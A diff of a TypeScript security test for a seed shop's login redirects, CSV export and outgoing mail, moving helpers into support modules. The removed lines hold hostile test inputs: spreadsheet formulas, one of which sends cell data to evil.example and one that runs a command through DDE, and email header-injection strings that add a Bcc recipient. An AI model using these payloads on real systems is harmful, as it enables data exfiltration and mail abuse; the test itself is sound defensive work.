@@ -1,30 +1,22 @@
-import { readFile } from 'node:fs/promises'
-import path from 'node:path'
-import Papa from 'papaparse'
-import { ProductInput } from '../src/contract/catalog.ts'
-import { createProduct } from '../src/server/catalog/save-product.ts'
-import { enqueueMail } from '../src/server/mail/outbox.ts'
 import type { Shop } from '../src/server/shop.ts'
 import { createAccount } from '../src/server/users/users.ts'
 import { safeRedirect } from '../src/web/paths.ts'
 import { PASSWORD } from '../test/support/accounts.ts'
 import { hostileAddresses } from '../test/support/hostile-addresses.ts'
-import { insertPerson } from '../test/support/people.ts'
 import { logIn, newVisitor, openBrowser } from './support/browser.ts'
-import { until } from './support/buyers.ts'
-import { clientAt } from './support/client.ts'
-import { runCommand } from './support/command.ts'
-import { headerOf, type MailServer, startMailServer } from './support/mail-server.ts'
-import { newCluster, openShopOf, type Place, placeOn } from './support/places.ts'
-import { Failures, type Proof, type ProofContext } from './support/proof.ts'
-import { askRaw } from './support/raw.ts'
+import { letters } from './support/hostile-letters.ts'
+import { sheet } from './support/live-formulas.ts'
+import { startMailServer } from './support/mail-server.ts'
+import { newCluster, openShopOf, placeOn } from './support/places.ts'
+import { Failures, type Proof, type ProofContext, spreadOver } from './support/proof.ts'
+import { askRaw, rawHeader } from './support/raw.ts'
 import { type Server, startServer } from './support/server.ts'
 
 export const proof: Proof = {
   id: 'X2',
   title:
     'Ways out: spellings of other sites as ?redirect= of the login, as the way back of forms and as addresses lead nowhere else; cells of the exported sheet that begin like formulas do not run, and come back as they were; line breaks and lists in addresses and subjects make no header and no recipient at a real mail server. Tries are logins by the form of the page, each with another spelling',
-  tries: { full: 80, short: 5 },
+  tries: { full: 80, short: 8 },
   minutes: 20,
   async run(context) {
     const failures = new Failures()
@@ -95,8 +87,6 @@ export const proof: Proof = {
   ],
 }
 
-// ---- Addresses ---------------------------------------------------------------------------------------------------
-
 async function redirects(server: Server, failures: Failures): Promise<number> {
   const isHere = (target: string) =>
     !URL.canParse(target, `${server.url}/login`) ||
@@ -127,7 +117,7 @@ async function redirects(server: Server, failures: Failures): Promise<number> {
     for (const answer of answers) {
       asked += 1
       const location =
-        answer.headers instanceof Headers ? answer.headers.get('location') : locationOf(answer.headers)
+        answer instanceof Response ? answer.headers.get('location') : rawHeader(answer, 'location')
       if (answer.status >= 500)
         failures.add('an unexpected error', `${answer.status} for ${JSON.stringify(spelling)}`)
       if (location && !isHere(location))
@@ -147,11 +137,6 @@ function askAs(server: Server, spelling: string) {
   })
 }
 
-function locationOf(headers: string[]): string | undefined {
-  const at = headers.findIndex((name, index) => index % 2 === 0 && name.toLowerCase() === 'location')
-  return at < 0 ? undefined : headers[at + 1]
-}
-
 /** As a customer does it: the link, the form, and where the page goes then. */
 async function signIns(
   context: ProofContext,
@@ -162,12 +147,7 @@ async function signIns(
   const account = { username: 'camino', email: 'camino@correo.example', password: PASSWORD }
   await createAccount(shop, { ...account, email_verified: true, createdBy: null })
   const browser = await openBrowser(context)
-  const all = hostileAddresses()
-  // Spread over the list when there are fewer tries than spellings.
-  const chosen = Array.from(
-    { length: Math.min(context.tries, all.length) },
-    (_, n) => all[Math.floor((n * all.length) / Math.min(context.tries, all.length))] ?? '',
-  )
+  const chosen = spreadOver(hostileAddresses(), context.tries)
   for (const spelling of chosen) {
     const { visitor, page } = await newVisitor(browser)
     const left: string[] = []
@@ -191,199 +171,4 @@ async function signIns(
     await visitor.close()
   }
   return chosen.length
-}
-
-// ---- Cells -------------------------------------------------------------------------------------------------------
-
-const FORMULAS = [
-  '=1+1',
-  '=HYPERLINK("https://evil.example?x="&A1,"ver")',
-  "=cmd|'/C calc'!A0",
-  '+1+1',
-  '-2+3',
-  '@SUM(1+1)',
-  "'=1+1",
-  "''=1+1",
-  '＝1+1',
-  '＋1+1',
-  '－1+1',
-  '＠SUM(1+1)',
-  '=1+1;=2+2',
-  '"=1+1"',
-  '";=1+1;"',
-]
-/** What begins a formula in Excel, LibreOffice or Sheets; full-width ones in Excel too. An apostrophe makes it a text. */
-const LIVE = /^[\s\0]*[=+\-@＝＋－＠]|^[\t\r\n]/
-const TEXT_FIELDS = [
-  'genotype',
-  'thc',
-  'cbd',
-  'flavors',
-  'effects',
-  'flowering_time',
-  'completed_cicle',
-  'height_indoor',
-  'height_outdoor',
-  'yield_indoor',
-  'yield_outdoor',
-  'product_size',
-  'sku',
-  'description',
-] as const
-
-/** Written by the command, and read as spreadsheets do. */
-async function sheet(context: ProofContext, place: Place, shop: Shop, failures: Failures): Promise<number> {
-  for (const [n, formula] of FORMULAS.entries()) {
-    const short = formula.slice(0, 40)
-    const texts = Object.fromEntries(TEXT_FIELDS.map((field) => [field, short]))
-    const blisters = [{ seed_count: 3, price: 100, stock: 1 }]
-    const lines = `${short}\n${formula}\n\t${formula}`
-    await createProduct(
-      shop,
-      ProductInput.parse({
-        ...texts,
-        sku: `${short.slice(0, 30)}${n}`,
-        description: lines,
-        name: `${short} ${n}`,
-        type: 'fem',
-        blisters,
-      }),
-      null,
-    )
-  }
-  const file = path.join(context.folder, 'sheet.csv')
-  const exported = await runCommand(place, ['products', 'export', file])
-  if (exported.code !== 0) throw new Error(exported.text)
-  const text = (await readFile(file, 'utf8')).replace(/^\uFEFF/, '')
-  const { data, errors } = Papa.parse<string[]>(text, { delimiter: ';' })
-  if (errors.length > 0) failures.add('a sheet that cannot be read', errors[0]?.message)
-  const rows = data.slice(1).filter((row) => row.length > 1)
-  failures.expect('rows of the sheet', rows.length, FORMULAS.length)
-  const width = data[0]?.length
-  for (const row of rows) {
-    if (row.length !== width) failures.add('a cell became two', row.join(' | '))
-    for (const cell of row) if (LIVE.test(cell)) failures.add('a live formula', JSON.stringify(cell))
-  }
-  const again = await runCommand(place, ['products', 'import', '--dry-run', file])
-  if (again.code !== 0 || /→/.test(again.text))
-    failures.add('the sheet does not come back as it was', again.text.slice(0, 300))
-  return rows.length * (width ?? 0)
-}
-
-// ---- Mail --------------------------------------------------------------------------------------------------------
-
-const VICTIM = 'victima@evil.example'
-const ADDRESSES = [
-  `ana@correo.example\r\nBcc: ${VICTIM}`,
-  `ana@correo.example\nBcc: ${VICTIM}`,
-  `ana@correo.example\rBcc: ${VICTIM}`,
-  `ana@correo.example%0d%0aBcc: ${VICTIM}`,
-  `ana@correo.example>\r\nRCPT TO:<${VICTIM}`,
-  `ana@correo.example> NOTIFY=SUCCESS`,
-  `ana@correo.example,${VICTIM}`,
-  `ana@correo.example, ${VICTIM}`,
-  `ana@correo.example;${VICTIM}`,
-  `ana@correo.example ${VICTIM}`,
-  `"${VICTIM}, x" <ana@correo.example>`,
-  `"${VICTIM}"@correo.example`,
-  `"ana@correo.example ${VICTIM}"@correo.example`,
-  `<${VICTIM}> ana@correo.example`,
-  `ana@correo.example<${VICTIM}>`,
-  `grupo: ana@correo.example, ${VICTIM};`,
-  `ana(${VICTIM})@correo.example`,
-  `ana@[127.0.0.1]`,
-  `@evil.example:ana@correo.example`,
-  `ana%evil.example@correo.example`,
-  `ana!evil@correo.example`,
-  `ana@correo.example\0${VICTIM}`,
-  `ana@correo.example\u2028Bcc: ${VICTIM}`,
-  `=?utf-8?q?=0d=0aBcc=3a?=@correo.example`,
-  `ana@cörreo.example`,
-  `ａna@correo.example`,
-  `ana@correo。example`,
-  `ana@@correo.example`,
-  `ana`,
-  `@`,
-  `-oQ/tmp@correo.example`,
-  `ana+etiqueta@correo.example`,
-  ' ana@correo.example ',
-  `${'a'.repeat(65)}@correo.example`,
-  `a@${'b.'.repeat(126)}example`,
-]
-const ALLOWED = new Set([
-  'from',
-  'to',
-  'subject',
-  'message-id',
-  'date',
-  'auto-submitted',
-  'mime-version',
-  'content-type',
-  'content-transfer-encoding',
-])
-
-/** What people can type goes through the API; and, as if a check there were missing, straight into the outbox. */
-async function letters(shop: Shop, server: Server, mail: MailServer, failures: Failures) {
-  const visitor = clientAt(server.url)
-  const admin = clientAt(server.url, (await insertPerson(shop, { admin: true })).access)
-  const accepted = new Set<string>()
-  for (const [n, email] of ADDRESSES.entries()) {
-    const user = {
-      first_name: 'Ana',
-      last_name: 'Paz',
-      username: `x2_${n}`,
-      email,
-      password: PASSWORD,
-      password2: PASSWORD,
-    }
-    const resend = await visitor.post('/auth/resend-verification/', { email })
-    const created = await admin.post('/auth/admin/create-user/', user)
-    for (const { status, text } of [resend, created])
-      if (status >= 500) failures.add('an unexpected error', `${JSON.stringify(email)}: ${text}`)
-    if (created.status === 201) accepted.add(created.body.email)
-  }
-  for (const email of accepted)
-    if (!/^[a-z0-9._%+-]+@correo\.example$/.test(email))
-      failures.add('an odd address is accepted', JSON.stringify(email))
-  const subjects = [
-    `Hola\r\nBcc: ${VICTIM}`,
-    `Hola\nBcc: ${VICTIM}`,
-    `Hola\r\n\r\nBcc: ${VICTIM}`,
-    `Hola\0x`,
-    `Hola\u2028Bcc: ${VICTIM}`,
-    `=?utf-8?b?${btoa(`x\r\nBcc: ${VICTIM}`)}?=`,
-    'ñ'.repeat(300),
-  ]
-  const at = new Date()
-  const straight = ADDRESSES.filter((address) => !address.includes('\0'))
-  for (const to of straight)
-    await enqueueMail(shop.db, { to, subject: 'Hola', text: `.\r\n.\r\nBcc: ${VICTIM}`, at })
-  for (const subject of subjects)
-    await enqueueMail(shop.db, { to: 'ana@correo.example', subject, text: 'Hola', at })
-  const counts = async () => await shop.db.selectFrom('outbox').select(['sent_at', 'last_error']).execute()
-  let left = await counts()
-  await until(
-    'all mails are tried',
-    () => {
-      void counts().then((rows) => (left = rows))
-      return (
-        left.length >= accepted.size + straight.length + subjects.length &&
-        left.every((row) => row.sent_at !== null || row.last_error !== '')
-      )
-    },
-    120,
-  )
-  for (const each of mail.received) {
-    if (each.to.length !== 1) failures.add('more than one recipient', each.to.join())
-    if (each.to.some((to) => !/^<[^<>\r\n]*>$/.test(to) || to === `<${VICTIM}>`))
-      failures.add('another recipient', each.to.join())
-    const names = each.headers.map(([name]) => name)
-    const odd = names.filter((name, place) => !ALLOWED.has(name) || names.indexOf(name) !== place)
-    if (odd.length > 0) failures.add('another header', odd.join())
-    if (headerOf(each, 'to').length !== 1) failures.add('not one To', headerOf(each, 'to').join())
-  }
-  for (const line of mail.unknown) failures.add('another command', line)
-  if (mail.received.length < accepted.size + subjects.length)
-    failures.add('too few mails', String(mail.received.length))
-  return { tried: ADDRESSES.length * 3 + subjects.length, sent: mail.received.length }
 }
